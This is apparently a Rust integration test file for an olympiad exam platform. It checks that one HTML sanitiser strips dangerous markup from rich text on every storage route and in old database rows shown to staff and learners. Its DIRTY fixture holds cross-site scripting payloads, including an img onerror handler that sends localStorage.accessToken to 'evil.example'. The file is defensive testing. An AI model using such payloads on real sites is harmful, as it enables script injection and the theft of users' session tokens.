//! Every stored rich text passes the one sanitiser, whatever route it came in by: the question-bank
//! import (JSON and CSV), the module and question editors and the olympiad's settings; and text
//! stored before (a row written by an older version) is sanitised as it is read, by staff and by
//! the learner writing the paper.

use crate::common::*;
use actix_web::http::StatusCode;
use actix_web::test::TestRequest;
use diesel::prelude::*;
use olympiad_domain::Role;
use olympiad_persistence::schema::{olympiads, question_modules, questions};
use serde_json::{json, Value};

/// A script, event handlers, a `javascript:` link, an outside image, an SVG and a frame, around
/// harmless formatting and a picture of the olympiad's own.
const DIRTY: &str = concat!(
    r#"<p onclick="steal()">Read <b>carefully</b></p>"#,
    r#"<img src=x onerror="fetch('//evil.example/'+localStorage.accessToken)">"#,
    r#"<script>alert(1)</script><a href="javascript:alert(1)">here</a>"#,
    r#"<svg onload="alert(1)"><circle r="1"/></svg><iframe src="javascript:alert(1)"></iframe>"#,
    r#"<img src="https://evil.example/pixel.png"><img src="/api/attachment/7" alt="map">"#,
);

/// No script, handler, link or outside address survived, and the formatting did.
fn assert_clean(text: &Value) {
    let text = text
        .as_str()
        .unwrap_or_else(|| panic!("not a text: {text}"));
    for bad in [
        "<script",
        "onerror",
        "onclick",
        "onload",
        "javascript:",
        "evil.example",
        "alert(",
        "<a ",
        "<svg",
        "<iframe",
    ] {
        assert!(!text.contains(bad), "{bad} survived in {text}");
    }
    for kept in [
        "<p>Read <b>carefully</b></p>",
        r#"<img src="/api/attachment/7" alt="map">"#,
    ] {
        assert!(text.contains(kept), "the formatting went too: {text}");
    }
}

/// The text as one field of a CSV row.
fn csv_field(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

#[actix_web::test]
async fn script_in_rich_text_is_removed_by_every_route_that_stores_it() {
    let fx = Fixture::new();
    let geography = fx.olympiad("geography").id;
    let admin = fx.token_for(fx.user("admin@example.org", Role::Admin, Some("geography")));
    let api = fx.api().await;
    let (status, _) = api
        .get(
            &format!("/api/olympiad/set-olympiad-open/{geography}?open=false"),
            &admin,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let modules = format!("/api/question-module?olympiadId={geography}");
    let questions_of = |module_id: i64| format!("/api/question?questionModuleId={module_id}");

    // The question bank's import: the module's instructions and the question's texts.
    let bank = json!({ "format": "olympiad-question-bank", "version": 1, "modules": [{
        "title": { "en": "Rivers" }, "instructions": { "en": DIRTY },
        "questions": [{ "kind": "singleChoice", "marks": 1, "difficulty": 1, "content": {
            "stem": { "en": DIRTY }, "explanation": { "en": DIRTY },
            "options": [{ "key": "a", "text": { "en": DIRTY } }, { "key": "b", "text": { "en": "Vaal" } }],
            "correct": ["a"] } }] }] });
    let (status, body) = api
        .post(
            &format!("/api/olympiad/{geography}/question-bank?confirm=true"),
            bank,
            &admin,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, listed) = api.get(&modules, &admin).await;
    let listed = &listed["data"];
    assert_clean(&listed[0]["instructions"]["en"]);
    let (_, exported) = api
        .get(&format!("/api/olympiad/{geography}/question-bank"), &admin)
        .await;
    let question = &exported["data"]["modules"][0]["questions"][0]["content"];
    assert_clean(&question["stem"]["en"]);
    assert_clean(&question["explanation"]["en"]);
    assert_clean(&question["options"][0]["text"]["en"]);

    // The CSV import: the stem and the options.
    let csv = format!(
        "question,a,b,correct\n{},{},Vaal,a\n",
        csv_field(DIRTY),
        csv_field(DIRTY)
    );
    let (status, body) = api
        .post(
            &format!("/api/olympiad/{geography}/question-bank/csv?confirm=true"),
            json!({ "moduleTitle": "From a spreadsheet", "csv": csv }),
            &admin,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, listed) = api.get(&modules, &admin).await;
    let from_csv = listed["data"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["title"]["en"] == "From a spreadsheet")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let (_, listed) = api.get(&questions_of(from_csv), &admin).await;
    assert_clean(&listed["data"][0]["content"]["stem"]["en"]);
    assert_clean(&listed["data"][0]["content"]["options"][0]["text"]["en"]);

    // The module editor, creating and changing.
    let (status, created) = api.post("/api/question-module?confirm=true", json!({ "olympiadId": geography, "title": { "en": "Maps" }, "instructions": { "en": DIRTY } }), &admin).await;
    assert_eq!(status, StatusCode::OK, "{created}");
    assert_clean(&created["data"]["instructions"]["en"]);
    let module_id = created["data"]["id"].as_i64().unwrap();
    let (status, changed) = api
        .send(with_token(
            TestRequest::put()
                .uri(&format!("/api/question-module/{module_id}?confirm=true"))
                .set_json(json!({ "title": { "en": "Maps" }, "instructions": { "af": DIRTY } })),
            &admin,
        ))
        .await;
    assert_eq!(status, StatusCode::OK, "{changed}");
    assert_clean(&changed["data"]["instructions"]["af"]);

    // The question editor, creating and changing: stem, options and explanation.
    let (status, question) = api.post("/api/question?confirm=true", json!({ "moduleId": module_id, "kind": "singleChoice", "marks": 1, "difficulty": 1,
        "content": { "stem": { "en": DIRTY }, "options": [{ "key": "a", "text": { "en": "Orange" } }, { "key": "b", "text": { "en": "Vaal" } }], "correct": ["a"] } }), &admin).await;
    assert_eq!(status, StatusCode::OK, "{question}");
    assert_clean(&question["data"]["content"]["stem"]["en"]);
    let question_id = question["data"]["id"].as_i64().unwrap();
    let (status, changed) = api.send(with_token(
            TestRequest::put()
                .uri(&format!("/api/question/{question_id}?confirm=true"))
                .set_json(json!({ "kind": "singleChoice", "marks": 1, "difficulty": 1,
                    "content": { "stem": { "af": DIRTY }, "explanation": { "en": DIRTY },
                        "options": [{ "key": "a", "text": { "en": DIRTY } }, { "key": "b", "text": { "en": "Vaal" } }],
                        "correct": ["a"] } })),
            &admin,
        ))
    .await;
    assert_eq!(status, StatusCode::OK, "{changed}");
    let (_, listed) = api.get(&questions_of(module_id), &admin).await;
    let content = &listed["data"][0]["content"];
    assert_clean(&content["stem"]["af"]);
    assert_clean(&content["explanation"]["en"]);
    assert_clean(&content["options"][0]["text"]["en"]);

    // The olympiad's settings: the learner's instructions and the declaration.
    let settings = json!({ "title": "Geography", "year": 2026, "kind": "schools", "durationMinutes": 45, "grades": [10], "languages": ["en"],
        "instructions": { "en": DIRTY }, "declaration": { "en": DIRTY } });
    let (status, saved) = api
        .send(with_token(
            TestRequest::put()
                .uri(&format!("/api/olympiad/{geography}"))
                .set_json(settings),
            &admin,
        ))
        .await;
    assert_eq!(status, StatusCode::OK, "{saved}");
    assert_clean(&saved["data"]["instructions"]["en"]);
    assert_clean(&saved["data"]["declaration"]["en"]);
    let olympiad_path = format!("/api/olympiad?olympiadId={geography}");
    let (_, olympiad) = api.get(&olympiad_path, &admin).await;
    assert_clean(&olympiad["data"]["instructions"]["en"]);

    // Text written before the sanitiser stood at the storage's door is sanitised as it is read.
    let raw = json!({ "en": DIRTY }).to_string();
    let raw_content = json!({ "stem": { "en": DIRTY }, "explanation": { "en": DIRTY },
        "options": [{ "key": "a", "text": { "en": DIRTY } }], "correct": ["a"] })
    .to_string();
    diesel::update(question_modules::table.find(module_id))
        .set(question_modules::instructions.eq(&raw))
        .execute(&mut fx.db.conn())
        .unwrap();
    diesel::update(questions::table.find(question_id))
        .set(questions::content.eq(&raw_content))
        .execute(&mut fx.db.conn())
        .unwrap();
    diesel::update(olympiads::table.find(geography))
        .set(olympiads::declaration.eq(&raw))
        .execute(&mut fx.db.conn())
        .unwrap();
    let (_, listed) = api.get(&modules, &admin).await;
    let listed = &listed["data"];
    let old = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["id"] == module_id)
        .unwrap();
    assert_clean(&old["instructions"]["en"]);
    let (_, listed) = api.get(&questions_of(module_id), &admin).await;
    let content = &listed["data"][0]["content"];
    assert_clean(&content["stem"]["en"]);
    assert_clean(&content["explanation"]["en"]);
    assert_clean(&content["options"][0]["text"]["en"]);
    let (_, olympiad) = api.get(&olympiad_path, &admin).await;
    assert_clean(&olympiad["data"]["declaration"]["en"]);

    // The admin's preview of the whole paper reads the same rows.
    let (status, paper) = api
        .send(with_token(
            TestRequest::post().uri(&format!("/api/olympiad/modules/{geography}")),
            &admin,
        ))
        .await;
    assert_eq!(status, StatusCode::OK, "{paper}");
    let previewed = paper["data"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["module"]["id"] == module_id)
        .unwrap();
    assert_clean(&previewed["module"]["instructions"]["en"]);
    assert_clean(&previewed["questions"][0]["content"]["stem"]["en"]);
}

#[actix_web::test]
async fn a_learner_is_shown_only_sanitised_text_even_from_rows_written_before() {
    let fx = Fixture::new();
    let geo = fx.olympiad("geography");
    let geography = geo.id;
    let raw = json!({ "en": DIRTY }).to_string();
    let mut conn = fx.db.conn();
    diesel::update(olympiads::table.find(geography))
        .set((
            olympiads::languages.eq(r#"["en"]"#),
            olympiads::duration_minutes.eq(60),
            olympiads::instructions.eq(&raw),
            olympiads::declaration.eq(&raw),
        ))
        .execute(&mut conn)
        .unwrap();
    let module_id: i64 = diesel::insert_into(question_modules::table)
        .values((
            question_modules::olympiad_id.eq(geography),
            question_modules::position.eq(1),
            question_modules::title.eq(r#"{"en":"Rivers"}"#),
            question_modules::instructions.eq(&raw),
            question_modules::created_at.eq(olympiad_persistence::now()),
            question_modules::updated_at.eq(olympiad_persistence::now()),
        ))
        .returning(question_modules::id)
        .get_result(&mut conn)
        .unwrap();
    let content = json!({ "stem": { "en": DIRTY },
        "options": [{ "key": "a", "text": { "en": DIRTY } }, { "key": "b", "text": { "en": "Vaal" } }],
        "correct": ["a"] });
    diesel::insert_into(questions::table)
        .values((
            questions::module_id.eq(module_id),
            questions::position.eq(1),
            questions::kind.eq("singleChoice"),
            questions::content.eq(content.to_string()),
            questions::marks.eq(1),
            questions::difficulty.eq(3),
            questions::created_at.eq(olympiad_persistence::now()),
            questions::updated_at.eq(olympiad_persistence::now()),
        ))
        .execute(&mut conn)
        .unwrap();
    drop(conn);
    let entry = fx.school().entered_in(&geo).build().entry();
    let learner = fx.learner("thabo.m").entered_with(entry).token;
    let api = fx.api().await;

    // Before writing: the olympiad's instructions and the declaration.
    let (status, body) = api.get("/api/sitting", &learner).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_clean(&body["data"]["olympiad"]["instructions"]["en"]);
    assert_clean(&body["data"]["olympiad"]["declaration"]["en"]);

    // Writing: the module's instructions, the stem and the options.
    let (key, _) = api.start_sitting(&learner, "en").await;
    let (status, body) = api.paper(&learner, Some(&key)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let module = &body["data"]["modules"][0];
    assert_clean(&module["instructions"]);
    assert_clean(&module["questions"][0]["stem"]);
    let option = module["questions"][0]["options"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["key"] == "a")
        .unwrap();
    assert_clean(&option["text"]);
}
